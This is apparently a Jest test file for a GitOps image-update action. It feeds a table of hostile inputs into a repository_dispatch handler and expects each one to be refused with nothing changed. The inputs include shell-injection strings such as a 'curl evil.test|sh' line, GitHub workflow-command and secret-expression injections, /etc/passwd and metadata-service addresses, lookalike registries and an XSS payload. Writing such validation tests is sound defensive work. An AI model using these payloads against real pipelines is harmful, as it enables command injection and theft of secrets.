import { describe, expect, it } from '@jest/globals';
import { triggerOf } from '../../../../src/actions/start.ts';
import { run } from '../../../../src/actions/update/run.ts';
import { spec } from '../../../../src/actions/update/spec.ts';
import { type InputsOf, readInputs } from '../../../../src/kit/action.ts';
import { InputError } from '../../../../src/kit/errors.ts';
import { configRepo } from '../../../support/memory/config-repo.ts';
import { createWorld, type World } from '../../../support/memory/world.ts';

const web = 'ghcr.io/acme/web';
const digest = `sha256:${'a'.repeat(64)}`;

function start(): World {
  const gitops = `version: 1
environments: { dev: {}, prod: { after: [dev] } }
apps:
  shop:
    source: apps/shop/{environment}
    artifacts:
      web: { image: ${web}, track: { semver: "^1" } }
    deploy: { with: branch, health: none }
`;
  const world = createWorld(configRepo(gitops, { shop: { image: web, runs: { dev: '1.0.0', prod: '1.0.0' } } }));
  for (const tag of ['1.0.0', '1.1.0', '2.0.0', 'latest']) world.registry.push(web, tag);
  world.registry.push('ghcr.io/evil/web', '9.9.9');
  return world;
}

/** What the example workflow makes of a payload: an expression gives text, `Object` and `Array` for what is none. */
async function dispatch(world: World, image: string) {
  const inputs = readInputs(
    spec.inputs,
    (name) => (name === 'images' ? image : ''),
    () => {},
  ) as InputsOf<typeof spec>;
  return await run(inputs, world.ports());
}

/** `client_payload.image` as somebody could send it who may send events, or whose build has been taken over. */
const hostile: readonly (readonly [string, string])[] = [
  ['a command in the tag', `${web}:$(id)`],
  ['a command in backticks', `${web}:\`id\``],
  ['the end of a quote', `${web}:1.1.0";curl evil.test|sh;"`],
  ['the end of a single quote', `${web}:1.1.0';id;'`],
  ['another command', `${web}:1.1.0;id`],
  ['a pipe', `${web}:1.1.0|id`],
  ['an ampersand', `${web}:1.1.0&id`],
  ['a redirection', `${web}:1.1.0>x`],
  ['a variable', `${web}:$GITHUB_TOKEN`],
  ['an expression of GitHub', `${web}:\${{ secrets.TOKEN }}`],
  ['a workflow command', `::set-output name=x::${web}:1.1.0`],
  ['a workflow command in a second line', `${web}:1.1.0\n::add-mask::x`],
  ['a workflow command behind a carriage return', `${web}:1.1.0\r::error::x`],
  ['an option', '--config=/etc/passwd'],
  ['an option for an image', `-o${web}:1.1.0`],
  ['a path that leaves', `${web}/../../evil/web:9.9.9`],
  ['a path in the tag', `${web}:../../1.1.0`],
  ['a file', 'file:///etc/passwd'],
  ['an address', `https://${web}:1.1.0`],
  ['a user of the registry', `user:password@${web}:1.1.0`],
  ['a host of the metadata service', '169.254.169.254/latest/meta-data:1.1.0'],
  ['a registry on this machine', 'localhost:5000/acme/web:1.1.0'],
  ['a registry of the same look', 'ghcr.io.evil.test/acme/web:1.1.0'],
  ['a Cyrillic letter', 'ghcr.io/аcme/web:1.1.0'],
  ['an image of nobody', 'ghcr.io/evil/web:9.9.9'],
  ['no tag', web],
  ['an empty tag', `${web}:`],
  ['a digest alone', `${web}@${digest}`],
  ['a digest of another content', `${web}:1.1.0@${digest}`],
  ['a short digest', `${web}:1.1.0@sha256:abc`],
  ['a digest of another algorithm', `${web}:1.1.0@md5:${'a'.repeat(32)}`],
  ['two digests', `${web}:1.1.0@${digest}@${digest}`],
  ['a digest in capitals', `${web}:1.1.0@${digest.toUpperCase()}`],
  ['a tag out of the policy', `${web}:2.0.0`],
  ['a tag that is no version', `${web}:latest`],
  ['a tag that is not there', `${web}:1.9.0`],
  ['a tag that is too long', `${web}:1.1.0-${'x'.repeat(200)}`],
  ['a name that is too long', `ghcr.io/${'a'.repeat(5000)}:1.1.0`],
  ['capitals in the name', 'ghcr.io/Acme/web:1.1.0'],
  ['the image twice', `${web}:1.1.0\n${web}:1.1.0`],
  ['the image twice in two ways', `${web}:1.1.0\n${web}:1.0.0`],
  ['a good one and a bad one', `${web}:1.1.0\n${web}-evil:1.1.0`],
  ['two in one line', `${web}:1.1.0 ${web}:1.0.0`],
  ['two behind a comma', `${web}:1.1.0,${web}:1.0.0`],
  ['a thousand lines', Array.from({ length: 1000 }, (_, index) => `ghcr.io/acme/w${index}:1.1.0`).join('\n')],
  ['a megabyte', 'a'.repeat(1024 * 1024)],
  ['a map', 'Object'],
  ['a list', 'Array'],
  ['a number', '1'],
  ['a truth', 'true'],
  ['JSON', `{"image":"${web}:1.1.0"}`],
  ['markup', '<img src=x onerror=alert(1)>'],
  ['a mention', '@everyone'],
  ['a trailer', `${web}:1.1.0\nPlumbline-Version: shop/web=9.9.9`],
  ['a NUL', `${web}:1.1.0\u0000`],
  ['an escape of a terminal', `${web}:\u001b[31m1.1.0`],
  ['text that runs the other way', `${web}:\u202e0.1.1`],
  ['half a character', `${web}:\ud800`],
  ['a prototype', '__proto__'],
];

describe('a repository_dispatch', () => {
  it.each(hostile)('with %s is refused, says so in few words, and changes nothing', async (_, image) => {
    const world = start();
    const refused: unknown = await dispatch(world, image).then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(refused).toBeInstanceOf(InputError);
    expect((refused as InputError).message.length).toBeLessThan(500);
    expect(world.writes.log).toEqual([]);
  });

  it.each([
    ['what is wanted', `${web}:1.1.0`],
    ['blank lines around it', `\n  ${web}:1.1.0  \n\n`],
    ['line ends of Windows', `${web}:1.1.0\r\n`],
  ])('with %s opens the one pull request', async (_, image) => {
    const world = start();
    await dispatch(world, image);
    expect(world.state.pulls.map(({ title }) => title)).toEqual(['Update shop in dev: web 1.0.0 → 1.1.0']);
  });

  it('without an image looks for what is newest, as the schedule does', async () => {
    const world = start();
    await dispatch(world, '');
    expect(world.state.pulls.map(({ title }) => title)).toEqual(['Update shop in dev: web 1.0.0 → 1.1.0']);
  });
});

describe('who sent it', () => {
  const runUrl = 'https://github.test/acme/config/actions/runs/7';
  const senderOf = (sender: unknown, event = 'repository_dispatch') =>
    triggerOf({ event, payload: { sender }, runUrl }).sender;
  it.each([
    [
      { id: 7, login: 'alice' },
      { id: 7, login: 'alice' },
    ],
    [
      { id: 41898282, login: 'github-actions[bot]' },
      { id: 41898282, login: 'github-actions[bot]' },
    ],
    [{ id: '7', login: 'alice' }, undefined],
    [{ id: -1, login: 'alice' }, undefined],
    [{ id: 1e300, login: 'alice' }, undefined],
    [{ id: 7, login: '@everyone' }, undefined],
    [{ id: 7, login: 'alice\nPlumbline-Version: shop/web=9' }, undefined],
    [{ id: 7, login: 'x'.repeat(101) }, undefined],
    [{ id: 7, login: ['alice'] }, undefined],
    [{ id: 7 }, undefined],
    ['alice', undefined],
    [null, undefined],
    [[], undefined],
  ])('%j is %j', (sender, known) => expect(senderOf(sender)).toEqual(known));

  it('is nobody for what happens by itself', () => {
    expect(senderOf({ id: 7, login: 'alice' }, 'schedule')).toBeUndefined();
    expect(senderOf({ id: 7, login: 'alice' }, 'push')).toBeUndefined();
  });
});
